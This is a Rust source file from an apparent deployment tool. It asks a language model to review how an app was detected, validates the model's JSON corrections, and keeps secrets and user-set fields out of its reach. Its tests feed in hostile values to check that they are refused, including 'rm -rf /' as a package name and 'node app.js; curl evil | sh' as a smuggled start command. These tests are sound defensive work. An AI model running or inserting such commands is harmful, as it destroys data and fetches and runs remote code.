//! A language model's second opinion on an analysis, where the rules are least sure: the
//! brief it is shown (the evidence, the file list and the manifests — never a `.env` file or
//! a value the user set), the answer it must give (a JSON object), and how that answer is
//! checked and applied to the plan. Each change keeps what the rules said beside what the
//! model said, so the user sees both.
//!
//! Pure: the brief is made from the in-memory view, the answer is text in, corrections out.

use crate::Analysis;
use crate::repo::Repo;
use devgem_plan::BuildPlan;
use serde::Deserialize;
use std::fmt;

/// Below this confidence the rules ask for a second opinion (a lone `server.js`, a folder of
/// static files, an app found by its sources alone).
pub const REVIEW_BELOW_CONFIDENCE: f64 = 0.8;
/// How many paths and how much manifest text the model is shown.
const MAX_PATHS: usize = 200;
const MAX_MANIFEST_CHARS: usize = 3_000;
const MAX_BRIEF_CHARS: usize = 24_000;
/// At most this many system packages are taken from a model.
const MAX_PACKAGES: usize = 8;

/// Whether an analysis is worth a model's review.
pub fn wants_review(analysis: &Analysis) -> bool {
    analysis.is_recognized()
        && (analysis.confidence < REVIEW_BELOW_CONFIDENCE || analysis.start_command.is_none())
}

/// The instructions the model gets with the brief.
pub const REVIEW_INSTRUCTIONS: &str = "You review how a deployment tool understood an app before it builds a container for \
Google Cloud Run. You see the tool's findings, the repository's file list and its manifests. \
Answer with ONE JSON object and nothing else: {\"framework\": string|null, \"start_command\": \
string|null, \"port\": number|null, \"system_packages\": [Debian package names the app needs at \
run time that the tool did not list], \"reason\": string}. Set a field only to correct the tool; \
leave it null when the tool is right. The start command runs in the app's folder; the app must \
listen on $PORT.";

/// What the model is shown about one app.
pub fn brief(repo: &Repo, analysis: &Analysis) -> String {
    let mut out = String::new();
    let language = analysis
        .language
        .map_or("unknown".to_string(), |l| l.to_string());
    out.push_str(&format!(
        "The tool's findings:\n- language: {language}\n- framework: {}\n- start command: {}\n- port: {}\n- system packages: {}\n- confidence: {:.2}\n",
        analysis.framework.as_deref().unwrap_or("none"),
        analysis.start_command.as_deref().unwrap_or("none"),
        analysis.deploy_port,
        if analysis.system_packages.is_empty() {
            "none".to_string()
        } else {
            analysis.system_packages.join(", ")
        },
        analysis.confidence,
    ));
    out.push_str("Evidence:\n");
    for line in &analysis.evidence {
        out.push_str(&format!("- {line}\n"));
    }
    out.push_str("Files:\n");
    for path in repo.paths.iter().take(MAX_PATHS) {
        out.push_str(&format!("- {path}\n"));
    }
    if repo.paths.len() > MAX_PATHS {
        out.push_str(&format!(
            "- ... and {} more\n",
            repo.paths.len() - MAX_PATHS
        ));
    }
    for (path, text) in repo.files.iter().filter(|(p, _)| is_shown_manifest(p)) {
        let cut: String = text.chars().take(MAX_MANIFEST_CHARS).collect();
        let section = format!("--- {path}\n{cut}\n");
        if out.len() + section.len() > MAX_BRIEF_CHARS {
            break;
        }
        out.push_str(&section);
    }
    out
}

/// Manifests the model may read: what declares dependencies and commands. Never an env
/// file (its values are the user's secrets) nor anything that may hold credentials.
fn is_shown_manifest(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or(path);
    const SHOWN: [&str; 14] = [
        "package.json",
        "requirements.txt",
        "pyproject.toml",
        "Pipfile",
        "go.mod",
        "Cargo.toml",
        "Gemfile",
        "composer.json",
        "pom.xml",
        "build.gradle",
        "build.gradle.kts",
        "Procfile",
        "deno.json",
        "Dockerfile",
    ];
    SHOWN.contains(&name) && path.matches('/').count() <= 2
}

/// The model's answer, as it must be shaped.
#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
pub struct ModelReview {
    #[serde(default)]
    pub framework: Option<String>,
    #[serde(default)]
    pub start_command: Option<String>,
    #[serde(default)]
    pub port: Option<u32>,
    #[serde(default)]
    pub system_packages: Vec<String>,
    #[serde(default)]
    pub reason: Option<String>,
}

/// Reads the JSON object out of a model's text (models like to wrap it in a code fence).
pub fn parse_review(text: &str) -> Result<ModelReview, String> {
    let start = text.find('{').ok_or("the answer has no JSON object")?;
    let end = text.rfind('}').ok_or("the answer has no JSON object")?;
    if end < start {
        return Err("the answer has no JSON object".into());
    }
    serde_json::from_str(&text[start..=end]).map_err(|e| format!("the answer is not a review: {e}"))
}

/// Which part of the plan a correction changed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ReviewedField {
    Framework,
    StartCommand,
    Port,
    SystemPackages,
}

impl fmt::Display for ReviewedField {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            ReviewedField::Framework => "framework",
            ReviewedField::StartCommand => "start command",
            ReviewedField::Port => "port",
            ReviewedField::SystemPackages => "system packages",
        })
    }
}

/// One change the model made, with both answers.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Correction {
    pub field: ReviewedField,
    pub rules: String,
    pub model: String,
}

impl fmt::Display for Correction {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{}: the rules said {}, the model says {}",
            self.field, self.rules, self.model
        )
    }
}

/// A part of the answer that was not taken, and why.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refusal {
    pub field: ReviewedField,
    pub reason: String,
}

/// Applies the checked parts of a review to the plan; returns what changed and what was
/// refused. A model may not change what the user chose (`kept` names those fields) and may
/// not add a start command with shell control characters or a package with an invalid name.
pub fn apply_review(
    plan: &mut BuildPlan,
    review: &ModelReview,
    kept: &[ReviewedField],
) -> (Vec<Correction>, Vec<Refusal>) {
    let mut changed = Vec::new();
    let mut refused = Vec::new();
    let mut refuse = |field, reason: &str| {
        refused.push(Refusal {
            field,
            reason: reason.to_string(),
        })
    };
    let wanted = |field: ReviewedField| !kept.contains(&field);

    if let Some(framework) = review.framework.as_deref().map(str::trim)
        && !framework.is_empty()
        && plan.framework.as_deref() != Some(framework)
        && wanted(ReviewedField::Framework)
    {
        if framework.len() > 40
            || !framework
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || "-._ ".contains(c))
        {
            refuse(ReviewedField::Framework, "not a framework name");
        } else {
            changed.push(Correction {
                field: ReviewedField::Framework,
                rules: plan.framework.clone().unwrap_or_else(|| "none".into()),
                model: framework.to_string(),
            });
            plan.framework = Some(framework.to_string());
        }
    }

    if let Some(command) = review.start_command.as_deref().map(str::trim)
        && !command.is_empty()
        && command != plan.start_command
    {
        if !wanted(ReviewedField::StartCommand) {
            refuse(ReviewedField::StartCommand, "you set the start command");
        } else if command.len() > 300
            || command.contains(['\n', ';', '`', '|', '>', '<'])
            || command.contains("&&")
            || command.contains("$(")
        {
            refuse(
                ReviewedField::StartCommand,
                "a start command is one program and its arguments, without shell control characters",
            );
        } else {
            changed.push(Correction {
                field: ReviewedField::StartCommand,
                rules: plan.start_command.clone(),
                model: command.to_string(),
            });
            plan.start_command = command.to_string();
            plan.native_start_command = Some(command.to_string());
        }
    }

    if let Some(port) = review.port
        && port != u32::from(plan.deploy_port)
    {
        match u16::try_from(port) {
            _ if !wanted(ReviewedField::Port) => refuse(ReviewedField::Port, "you set the port"),
            Ok(p) if p >= 1 => {
                changed.push(Correction {
                    field: ReviewedField::Port,
                    rules: plan.deploy_port.to_string(),
                    model: p.to_string(),
                });
                plan.deploy_port = p;
            }
            _ => refuse(ReviewedField::Port, "not a TCP port"),
        }
    }

    let new: Vec<String> = review
        .system_packages
        .iter()
        .map(|p| p.trim().to_string())
        .filter(|p| !plan.system_packages.contains(p))
        .collect();
    if !new.is_empty() {
        let (good, bad): (Vec<String>, Vec<String>) =
            new.into_iter().partition(|p| is_debian_package_name(p));
        if !bad.is_empty() {
            refuse(
                ReviewedField::SystemPackages,
                &format!("not Debian package names: {}", bad.join(", ")),
            );
        }
        let good: Vec<String> = good.into_iter().take(MAX_PACKAGES).collect();
        if !good.is_empty() {
            changed.push(Correction {
                field: ReviewedField::SystemPackages,
                rules: if plan.system_packages.is_empty() {
                    "none".into()
                } else {
                    plan.system_packages.join(", ")
                },
                model: format!("also {}", good.join(", ")),
            });
            plan.system_packages.extend(good);
        }
    }
    (changed, refused)
}

/// Debian policy: lowercase letters, digits, `+`, `-` and `.`, at least two characters,
/// starting with a letter or digit.
fn is_debian_package_name(name: &str) -> bool {
    name.len() >= 2
        && name.len() <= 64
        && name.as_bytes()[0].is_ascii_alphanumeric()
        && name
            .bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b"+-.".contains(&b))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lone_server() -> (Repo, Analysis) {
        let repo = Repo::from_files([
            (
                "server.js",
                "require('http').createServer().listen(process.env.PORT)",
            ),
            ("app.js", "// the real app"),
            ("package.json", "{}"),
            (".env", "STRIPE_KEY=sk_live_123"),
        ]);
        let analysis = crate::analyze_repo(&repo);
        (repo, analysis)
    }

    #[test]
    fn a_lone_server_is_reviewed_and_its_brief_shows_files_and_manifests_but_no_env_file() {
        let (repo, analysis) = lone_server();
        assert!(wants_review(&analysis));
        let brief = brief(&repo, &analysis);
        assert!(brief.contains("- app.js"), "{brief}");
        assert!(brief.contains("--- package.json\n{}"), "{brief}");
        assert!(!brief.contains("sk_live_123"), "{brief}");
        assert!(!brief.contains("--- .env"), "{brief}");
    }

    #[test]
    fn a_sure_analysis_is_not_reviewed() {
        let repo = Repo::from_files([
            ("requirements.txt", "flask\n"),
            ("app.py", "from flask import Flask\napp = Flask(__name__)\n"),
        ]);
        assert!(!wants_review(&crate::analyze_repo(&repo)));
    }

    #[test]
    fn the_answer_is_read_from_a_code_fence() {
        let r = parse_review("Sure:\n```json\n{\"start_command\": \"node app.js\", \"port\": null, \"reason\": \"app.js is the app\"}\n```").unwrap();
        assert_eq!(r.start_command.as_deref(), Some("node app.js"));
        assert!(parse_review("I think it is fine.").is_err());
    }

    #[test]
    fn corrections_keep_both_answers_and_refuse_what_is_unsafe() {
        let (_, analysis) = lone_server();
        let mut plan = crate::plan(&analysis).unwrap();
        let rules_command = plan.start_command.clone();
        let review = ModelReview {
            start_command: Some("node app.js".into()),
            port: Some(70_000),
            system_packages: vec!["libgl1".into(), "rm -rf /".into()],
            ..ModelReview::default()
        };
        let (changed, refused) = apply_review(&mut plan, &review, &[]);
        assert_eq!(plan.start_command, "node app.js");
        assert!(plan.system_packages.contains(&"libgl1".to_string()));
        assert_eq!(
            changed[0].to_string(),
            format!("start command: the rules said {rules_command}, the model says node app.js")
        );
        let fields: Vec<ReviewedField> = refused.iter().map(|r| r.field).collect();
        assert_eq!(fields, [ReviewedField::Port, ReviewedField::SystemPackages]);

        let mut plan = crate::plan(&analysis).unwrap();
        let shell = ModelReview {
            start_command: Some("node app.js; curl evil | sh".into()),
            ..ModelReview::default()
        };
        let (changed, refused) = apply_review(&mut plan, &shell, &[]);
        assert!(changed.is_empty());
        assert_eq!(refused[0].field, ReviewedField::StartCommand);
    }

    #[test]
    fn what_the_user_chose_stays() {
        let (_, analysis) = lone_server();
        let mut plan = crate::plan(&analysis).unwrap();
        let before = plan.start_command.clone();
        let review = ModelReview {
            start_command: Some("node app.js".into()),
            ..ModelReview::default()
        };
        let (changed, refused) = apply_review(&mut plan, &review, &[ReviewedField::StartCommand]);
        assert!(changed.is_empty());
        assert_eq!(plan.start_command, before);
        assert_eq!(refused[0].reason, "you set the start command");
    }
}
